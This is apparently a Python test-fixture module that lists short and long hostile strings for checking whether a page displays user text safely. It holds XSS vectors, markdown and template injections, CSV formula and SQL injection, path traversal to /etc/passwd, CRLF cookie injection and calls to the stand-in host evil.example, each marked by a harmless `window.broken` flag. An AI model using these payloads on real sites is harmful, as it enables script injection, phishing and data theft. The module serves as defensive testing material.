"""Texts that attack a page which shows them carelessly. Each one that runs sets `window.broken`."""

from __future__ import annotations

from collections.abc import Iterable

AWAY = "https://evil.example"
RUN = "window.broken=1"

# What fits into a name: at most 64 characters, none of them invisible.
SHORT = (
    f"<script>{RUN}</script>",
    "<img src=x onerror=window.broken=1>",
    "<svg/onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "</title><script>window.broken=1</script>",
    "</textarea><script>window.broken=1</script>",
    "</script><script>window.broken=1</script>",
    "--><script>window.broken=1</script>",
    "<body onload=window.broken=1>",
    "<iframe src=//evil.example></iframe>",
    "<details open ontoggle=window.broken=1>",
    "<a href=javascript:window.broken=1>go</a>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/y)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video src=x onerror=window.broken=1>",
    "<marquee onstart=window.broken=1>x</marquee>",
    "<input autofocus onfocus=window.broken=1>",
    '" onmouseover=window.broken=1 x="',
    "' onfocus=window.broken=1 autofocus x='",
    '" autofocus onfocus=window.broken=1 "',
    '"><img src=//evil.example/a>',
    "'><img src=//evil.example/b>",
    "`><img src=//evil.example/c>",
    "javascript:window.broken=1",
    "data:text/html,<script>window.broken=1</script>",
    "zz{{7*7}}zz{{7*'7'}}",
    "zz${7*7}zz zz#{7*7}zz zz<%= 7*7 %>zz",
    "{% for x in [1] %}zz{{ 7*7 }}zz{% endfor %}",
    "{name}{0}{__class__}%(name)s%s%n",
    '{"marks": {"A": 1}}</script>',
    "&lt;script&gt;window.broken=1&lt;/script&gt;",
    "&#60;script&#62;window.broken=1",
    "\\u003cscript\\u003ewindow.broken=1",
    "%3Cscript%3Ewindow.broken=1%3C/script%3E",
    "＜script＞window.broken=1＜/script＞",
    "<scr<script>ipt>window.broken=1</scr</script>ipt>",
    "<ScRiPt >window.broken=1</sCrIpT >",
    "<img/src/onerror=window.broken=1>",
    "<math><mtext><img src=x onerror=window.broken=1>",
    "![x](https://evil.example/x.png)",
    "[x](javascript:window.broken=1)",
    "[x](JaVaScRiPt&colon;window.broken=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<https://evil.example/auto>",
    "<javascript:window.broken=1>",
    "[x]: javascript:window.broken=1",
    '=HYPERLINK("//evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1;@SUM(1);-2",
    "' OR 1=1; DROP TABLE answer; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "//evil.example",
    "/\\evil.example",
    "שלום مرحبا ﷽",
    "Z̸͑a̷͂l̵̂g̶͝o̴͠ 𝕹𝖆𝖒𝖊 ﬁ",
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "null",
    "__proto__",
    "constructor",
    "W" * 64,
)

# What only long texts take: line breaks, invisible characters, length.
LONG = (
    "\u202e\u2066 gro.elpmaxe//:sptth \u2069\u202c",
    "a\u200b\u200c\u200d\ufeffb",
    "line one\r\nSet-Cookie: ha_session=stolen\r\n\r\n<script>window.broken=1</script>",
    "\x01\x02\x07\x08\x1b[31mred\x7f",
    "unbroken" * 400,
    "<a href='java\tscript:window.broken=1'>x</a>",
    "<a href='\x01javascript:window.broken=1'>x</a>",
    "[x](<javascript:window.broken=1>)\n\n[y][z]\n\n[z]: <data:text/html,x>",
    "[x](https://evil.example \"title' onmouseover='window.broken=1\")",
    "<!--\n<img src=x onerror=window.broken=1>\n-->",
    "```html\n<script>window.broken=1</script>\n```",
    "| a | b |\n|-|-|\n| <img src=//evil.example/t> | ![t](//evil.example/t) |",
    "<svg><animate onbegin=window.broken=1 attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.broken=1>#x'></use></svg>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'></noscript>",
    "<template><script>window.broken=1</script></template>",
    "<div style='background:url(https://evil.example/s);position:fixed;inset:0'>x</div>",
    "<p id=task><p id=words><p id=said><form id=task><input name=csrf>",
    "> " * 200 + "<script>window.broken=1</script>",
    "\ufffe\uffff\U0010ffff",
)

ALL = SHORT + LONG


def tagged(texts: Iterable[str] = ALL) -> list[str]:
    """The texts, each behind a word of its own by which it is found on a page."""
    return [f"q{number:03d}q {text}" for number, text in enumerate(texts)]


def joined(most: int, texts: Iterable[str] = ALL) -> str:
    """As many of the texts as fit into `most` characters, one a paragraph."""
    kept, left = [], most
    for text in texts:
        left -= len(text) + 2
        if left < 0:
            break
        kept.append(text)
    return "\n\n".join(kept)
